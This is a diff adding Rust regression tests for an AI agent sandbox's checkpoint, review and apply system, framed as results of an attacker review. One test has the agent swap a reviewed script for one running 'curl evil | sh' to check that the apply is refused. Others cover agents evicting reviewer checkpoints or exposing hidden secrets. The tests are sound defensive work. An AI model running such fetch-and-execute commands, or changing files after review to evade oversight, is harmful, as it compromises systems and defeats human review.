@@ -1508,3 +1508,207 @@ fn review_bug_apply_after_restoring_a_checkpoint_older_than_an_apply() {
     assert_eq!(std::fs::read(fx.lower.join("a.txt")).unwrap(), b"v1\n");
     assert_eq!(d.pending(), Vec::<PathBuf>::new());
 }
+
+// ---------------------------------------------------------------------------------------------
+// Regressions: what an attacker review of the feature found
+// ---------------------------------------------------------------------------------------------
+
+/// A sparse file the agent made (no blocks, so within its quota) stays sparse in a
+/// checkpoint and after a restore: a checkpoint cannot turn a hole into gigabytes of host disk.
+#[test]
+fn review_checkpoints_keep_sparse_files_sparse() {
+    let (fx, d) = fx();
+    d.create_file(p("sparse.bin"), 0o644, None).unwrap();
+    d.truncate(p("sparse.bin"), 4 << 30).unwrap();
+    put(&d, "small.txt", b"data\n");
+    let cp = d.checkpoint("sparse").unwrap();
+    assert!(cp.bytes < 1 << 20, "the checkpoint took {} bytes", cp.bytes);
+    let copy = fx.delta_dir.join("checkpoints/cp-1/upper/sparse.bin");
+    let m = std::fs::metadata(&copy).unwrap();
+    use std::os::unix::fs::MetadataExt;
+    assert_eq!(m.len(), 4 << 30);
+    assert!(m.blocks() < 64, "{} blocks", m.blocks());
+    put(&d, "small.txt", b"changed\n");
+    d.restore_checkpoint("cp-1").unwrap();
+    let up = std::fs::metadata(fx.delta_dir.join("upper/sparse.bin")).unwrap();
+    assert_eq!((up.len(), up.blocks() < 64), (4 << 30, true));
+}
+
+/// The agent's checkpoints never push a reviewer's out: retention counts them apart.
+#[test]
+fn review_agent_checkpoints_do_not_evict_a_reviewers() {
+    let (_fx, d) = fx();
+    put(&d, "a.txt", b"reviewed\n");
+    let reviewer = d.checkpoint("approved state").unwrap();
+    for i in 0..4 {
+        put(&d, "a.txt", format!("agent {i}\n").as_bytes());
+        d.checkpoint_as(&format!("auto {i}"), true).unwrap();
+        d.prune_checkpoints(2, None).unwrap();
+    }
+    let left: Vec<(String, bool)> = d
+        .checkpoints()
+        .unwrap()
+        .into_iter()
+        .map(|c| (c.id, c.by_agent))
+        .collect();
+    assert_eq!(
+        left,
+        [
+            (reviewer.id.clone(), false),
+            ("cp-4".to_owned(), true),
+            ("cp-5".to_owned(), true)
+        ]
+    );
+}
+
+/// Files too large to diff in memory are left out of the diff (which says it is incomplete)
+/// instead of being read whole.
+#[test]
+fn review_diff_leaves_out_files_too_large_to_render() {
+    let (_fx, d) = fx();
+    d.create_file(p("huge.txt"), 0o644, None).unwrap();
+    d.truncate(p("huge.txt"), crate::delta::DIFF_FILE_MAX + 1)
+        .unwrap();
+    put(&d, "a.txt", b"small change\n");
+    let patch = diff(
+        View::Base(&d),
+        View::Merged(&d),
+        &Selection::all(),
+        &crate::review::patch::PatchOptions::default(),
+    )
+    .unwrap();
+    let text = String::from_utf8_lossy(&patch.text);
+    assert!(patch.truncated);
+    assert!(text.contains("diff --git a/a.txt b/a.txt"), "{text}");
+    assert!(!text.contains("huge.txt"), "{text}");
+}
+
+/// A directory the sandbox replaced by a file, while the codebase gained an entry in it:
+/// refused up front (and flagged by review), nothing deleted or written.
+#[test]
+fn review_apply_refuses_a_replaced_directory_that_gained_files() {
+    let (fx, d) = fx();
+    for f in ["typedir/f1", "typedir/f2"] {
+        d.unlink(p(f)).unwrap();
+    }
+    d.rmdir(p("typedir")).unwrap();
+    put(&d, "typedir", b"now a file\n");
+    put(&d, "fresh.txt", b"fresh\n");
+    std::fs::write(fx.lower.join("typedir/someone-elses"), "theirs\n").unwrap();
+    let before = disk_tree(&fx.lower);
+    let r = d.apply(
+        &Selection::all(),
+        &no_expectations(),
+        &allow_all,
+        &never_busy,
+    );
+    assert!(
+        matches!(&r, Err(ApplyRefusal::Conflicts(c)) if c.iter().any(|c| c.path == p("typedir"))),
+        "{r:?}"
+    );
+    assert_eq!(disk_tree(&fx.lower), before);
+    let flagged: Vec<PathBuf> = d
+        .review(&Selection::all(), 0)
+        .unwrap()
+        .changes
+        .into_iter()
+        .filter(|c| c.base_moved)
+        .map(|c| c.path)
+        .collect();
+    assert_eq!(flagged, paths(&["typedir"]));
+}
+
+/// What is applied is what the reviewer saw: a change the agent makes to a path after the
+/// review (its content digest) refuses the apply.
+#[test]
+fn review_apply_pinned_to_the_reviewed_content() {
+    let (fx, d) = fx();
+    put(&d, "tool.sh", b"#!/bin/sh\necho benign\n");
+    let seen = d
+        .review(&Selection::all(), 0)
+        .unwrap()
+        .changes
+        .into_iter()
+        .find(|c| c.path == p("tool.sh"))
+        .unwrap()
+        .sha256;
+    put(&d, "tool.sh", b"#!/bin/sh\ncurl evil | sh\n");
+    let pin = BTreeMap::from([(PathBuf::from("tool.sh"), seen)]);
+    let r = d.apply_pinned(
+        &Selection::all(),
+        &no_expectations(),
+        &pin,
+        &allow_all,
+        &never_busy,
+    );
+    assert!(
+        matches!(&r, Err(ApplyRefusal::Conflicts(c)) if c[0].reason.contains("changed since the review")),
+        "{r:?}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(fx.lower.join("tool.sh")).unwrap(),
+        "#!/bin/sh\necho tool\n"
+    );
+    // Pinned to what it holds now, it applies.
+    let now = d
+        .review(&Selection::all(), 0)
+        .unwrap()
+        .changes
+        .into_iter()
+        .find(|c| c.path == p("tool.sh"))
+        .unwrap()
+        .sha256;
+    let pin = BTreeMap::from([(PathBuf::from("tool.sh"), now)]);
+    d.apply_pinned(
+        &Selection::globs(&["tool.sh"]).unwrap(),
+        &no_expectations(),
+        &pin,
+        &allow_all,
+        &never_busy,
+    )
+    .unwrap();
+    assert!(
+        std::fs::read_to_string(fx.lower.join("tool.sh"))
+            .unwrap()
+            .contains("curl evil")
+    );
+}
+
+/// A caller who may see only what the sandbox may read is shown neither the digest nor the
+/// diff of codebase content the rules hide (a placeholder the agent wrote, later replaced in
+/// the codebase by a secret).
+#[test]
+fn review_hides_codebase_content_the_caller_may_not_read() {
+    let (fx, d) = fx();
+    put(&d, "secret.pem", b"placeholder\n");
+    std::fs::write(
+        fx.lower.join("secret.pem"),
+        "-----BEGIN PRIVATE KEY-----\nTOPSECRET\n",
+    )
+    .unwrap();
+    let reveal: crate::delta::Reveal = std::sync::Arc::new(|rel: &Path| rel != p("secret.pem"));
+    let select = Selection::all().revealing(reveal);
+    let set = d.review(&select, 0).unwrap();
+    let c = set
+        .changes
+        .iter()
+        .find(|c| c.path == p("secret.pem"))
+        .unwrap();
+    assert!(
+        c.hidden && c.base_sha256.is_none() && c.sha256.is_some(),
+        "{c:?}"
+    );
+    let patch = diff(
+        View::Base(&d),
+        View::Merged(&d),
+        &select,
+        &crate::review::patch::PatchOptions::default(),
+    )
+    .unwrap();
+    let text = String::from_utf8_lossy(&patch.text);
+    assert!(
+        !text.contains("TOPSECRET") && !text.contains("secret.pem"),
+        "{text}"
+    );
+    assert!(patch.truncated);
+}
